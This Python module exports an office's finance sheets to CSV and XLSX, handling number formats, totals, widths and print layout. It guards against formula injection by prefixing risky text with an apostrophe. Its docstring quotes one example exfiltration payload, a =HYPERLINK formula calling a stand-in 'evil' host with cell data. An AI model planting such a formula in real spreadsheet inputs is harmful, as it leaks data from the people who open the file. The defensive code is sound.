"""The CSV and XLSX files the office opens in Excel and finance prints: one typed sheet-writer.

An exporter declares its sheets (columns with a kind, rows, whether a totals row is due) and
this module puts them on paper the same way every time: in XLSX a bold header frozen at A2
with an autofilter, widths from the content (a CJK character is two wide), money as numbers
formatted `#,##0.00`, rates `0.00%`, dates and times as real Excel dates in the estate's zone,
a totals row computed here from the rows (so it always adds up), and an A4 landscape page
fitted to one page wide with the header repeated on every page. CSV gets the same cells as
text, UTF-8 with a BOM (Excel on a Chinese PC reads it) or GB18030 on request.

Typed text never runs as a formula: a payer's name typed as `=HYPERLINK("http://evil/?"&A1,"点此")`
would otherwise be live on finance's PC (OWASP "CSV injection"). Every text cell that starts
like a formula gets a leading apostrophe, and in XLSX is written as a string cell; numbers
stay numbers, so a negative amount is still -12.50 and sums in the sheet still work.
"""
from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, tzinfo
from decimal import ROUND_HALF_UP, Decimal
from enum import StrEnum
from typing import Any, Literal

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CsvEncoding = Literal["utf-8", "gb18030"]
TOTALS_LABEL = "合计"


class Kind(StrEnum):
    text = "text"
    money = "money"  # Decimal, two places
    rate = "rate"  # Decimal share (0.8123 is 81.23%), four places
    date = "date"
    datetime = "datetime"  # aware, shown in the estate's zone
    int = "int"
    quantity = "quantity"  # Decimal, three places (stock)


DIGITS = {Kind.money: 2, Kind.rate: 4, Kind.quantity: 3}
PLACES = {kind: Decimal(1).scaleb(-digits) for kind, digits in DIGITS.items()}
NUMBER_FORMATS = {Kind.money: "#,##0.00", Kind.rate: "0.00%", Kind.date: "yyyy-mm-dd",
                  Kind.datetime: "yyyy-mm-dd hh:mm", Kind.int: "0", Kind.quantity: "#,##0.000"}


@dataclass(frozen=True)
class Column:
    header: str
    kind: Kind = Kind.text
    total: bool | None = None  # summed in the totals row; money is unless told otherwise
    ratio: tuple[str, str] | None = None  # a rate's total: sum(numerator column) / sum(denominator column)

    @property
    def summed(self) -> bool:
        return self.kind is Kind.money if self.total is None else self.total


@dataclass(frozen=True)
class Sheet:
    name: str  # the XLSX sheet's name: Chinese, at most 31 characters
    title: str  # the CSV's first line; the printed page's header
    columns: Sequence[Column]
    rows: Sequence[Sequence[Any]]
    totals: bool = False
    totals_label: str = TOTALS_LABEL

    def totals_row(self) -> list[Any] | None:
        """The sums of the summed columns and the ratio of the rates, the label in the first cell."""
        if not self.totals:
            return None
        sums = {c.header: sum((_sum_value(row[n]) for row in self.rows), Decimal(0)) if c.summed or _is_ratio_part(self, c)
                else None for n, c in enumerate(self.columns)}
        out: list[Any] = []
        for c in self.columns:
            if c.ratio is not None:
                num, den = sums[c.ratio[0]], sums[c.ratio[1]]
                out.append(None if not den or num is None else num / den)
            else:
                out.append(sums[c.header] if c.summed else None)
        out[0] = self.totals_label
        return out


def _is_ratio_part(sheet: Sheet, column: Column) -> bool:
    return any(c.ratio is not None and column.header in c.ratio for c in sheet.columns)


def _sum_value(value: Any) -> Decimal:
    return Decimal(value) if isinstance(value, int | Decimal) and not isinstance(value, bool) else Decimal(0)


def coded(name: str, code: str | None) -> str:
    """A fee item or category as people read it, with the code the books use: 物业费 (WY)."""
    return f"{name} ({code})" if code and code != name else name


def safe_text(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cell(value: Any) -> Any:
    """Text neutralised, None blank, numbers as they are (the csv module writes their str())."""
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, bool | int | float | Decimal):
        return value
    return safe_text(str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_row(sheet: Worksheet, values: Iterable[Any]) -> tuple[Cell, ...]:
    """Append a row to an XLSX sheet: text as string cells, never formulas; the row's cells."""
    return write_row(sheet, sheet.max_row + 1 if sheet.max_row > 1 or sheet["A1"].value is not None else 1, values)


def write_row(sheet: Worksheet, number: int, values: Iterable[Any]) -> tuple[Cell, ...]:
    """Row `number` of the sheet. The writer counts rows itself: openpyxl's max_row reads every
    cell, which made a 5,000-line register take minutes."""
    cells = []
    for column, value in enumerate(values, 1):
        cell = sheet.cell(row=number, column=column, value=safe_text(value) if isinstance(value, str) else value)
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl would type a leading "=" as a formula
        cells.append(cell)
    return tuple(cells)


# --- one value, by the kind of its column ----------------------------------------------

def typed(value: Any, kind: Kind, tz: tzinfo) -> Any:
    """What the XLSX cell holds: a number rounded to its places, a naive estate-local date or
    time (Excel has no zones), or text. Anything that is not of the column's kind is text."""
    if value is None or isinstance(value, str):
        return value
    number = isinstance(value, int | Decimal) and not isinstance(value, bool)
    if kind in PLACES and number:
        return Decimal(value).quantize(PLACES[kind], rounding=ROUND_HALF_UP)
    if kind is Kind.int and number:
        return int(value)
    if kind is Kind.datetime and isinstance(value, datetime):
        return value.astimezone(tz).replace(tzinfo=None) if value.tzinfo else value
    if kind is Kind.date and isinstance(value, datetime):
        return value.astimezone(tz).date() if value.tzinfo else value.date()
    if kind is Kind.date and isinstance(value, date):
        return value
    return str(value)


def shown(value: Any) -> str:
    """The cell as the reader sees it: CSV's text, and what the column's width is measured on."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def display_width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in text)


# --- the writers -------------------------------------------------------------------------

def _lines(sheet: Sheet, tz: tzinfo) -> list[list[Any]]:
    kinds = [c.kind for c in sheet.columns]
    for row in sheet.rows:
        if len(row) != len(kinds):
            raise ValueError(f"sheet {sheet.name}: a row of {len(row)} cells under {len(kinds)} columns")
    rows = [list(r) for r in sheet.rows]
    total = sheet.totals_row()
    if total is not None:
        rows.append(total)
    return [[typed(v, k, tz) for v, k in zip(row, kinds, strict=True)] for row in rows]


def to_csv(sheets: Sequence[Sheet], *, tz: tzinfo, encoding: CsvEncoding = "utf-8") -> bytes:
    """The sheets one after another, each a title line, its header and rows, a blank line between."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for n, sheet in enumerate(sheets):
        if n:
            writer.writerow([])
        writer.writerow(csv_row([sheet.title]))
        writer.writerow(csv_row(c.header for c in sheet.columns))
        # Numbers go through as numbers (a negative amount is not text to neutralise), the rest as shown.
        writer.writerows(csv_row(v if isinstance(v, int | Decimal) else shown(v) for v in row) for row in _lines(sheet, tz))
    text = buf.getvalue()
    return "\ufeff".encode() + text.encode() if encoding == "utf-8" else text.encode("gb18030")


def csv_media_type(encoding: CsvEncoding) -> str:
    return f"text/csv; charset={encoding}"


HEADER_FONT = Font(bold=True)
HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
TOTALS_BORDER = Border(top=Side(style="thin"))


def to_xlsx(sheets: Sequence[Sheet], *, tz: tzinfo) -> bytes:
    book = Workbook()
    book.remove(book.active)
    if sheets:
        book.properties.title = sheets[0].title
    for sheet in sheets:
        _write_sheet(book.create_sheet(sheet.name[:31]), sheet, tz)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _write_sheet(ws: Worksheet, sheet: Sheet, tz: tzinfo) -> None:
    lines = _lines(sheet, tz)
    for cell in write_row(ws, 1, [c.header for c in sheet.columns]):
        cell.font, cell.fill = HEADER_FONT, HEADER_FILL
    for number, line in enumerate(lines, 2):
        cells = write_row(ws, number, line)
        for cell, column in zip(cells, sheet.columns, strict=True):
            if column.kind is not Kind.text and not isinstance(cell.value, str):
                cell.number_format = NUMBER_FORMATS[column.kind]
        if sheet.totals and number == len(lines) + 1:
            for cell in cells:
                cell.font, cell.border = HEADER_FONT, TOTALS_BORDER
    last = get_column_letter(len(sheet.columns))
    ws.freeze_panes = "A2"
    ws.auto_filter.ref = f"A1:{last}{1 + len(sheet.rows)}"  # the data, not the totals row
    for n, column in enumerate(sheet.columns, 1):
        widest = max([display_width(column.header) + 2]  # room for the filter's button
                     + [display_width(_width_text(line[n - 1], column.kind)) for line in lines])
        ws.column_dimensions[get_column_letter(n)].width = min(max(widest + 2, 6), 60)
    _print_setup(ws, sheet.title)


def _width_text(value: Any, kind: Kind) -> str:
    if isinstance(value, Decimal) and kind is Kind.rate:
        return f"{value * 100:.2f}%"
    if isinstance(value, Decimal):
        return f"{value:,.{DIGITS.get(kind, 2)}f}"
    return shown(value)


def _print_setup(ws: Worksheet, title: str) -> None:
    """A4 landscape, one page wide and as many long as it takes, the header on every page."""
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_title_rows = "1:1"
    ws.print_options.gridLines = True
    ws.oddHeader.center.text = title.replace("&", "&&")[:200]
    ws.oddFooter.center.text = "第 &P 页，共 &N 页"
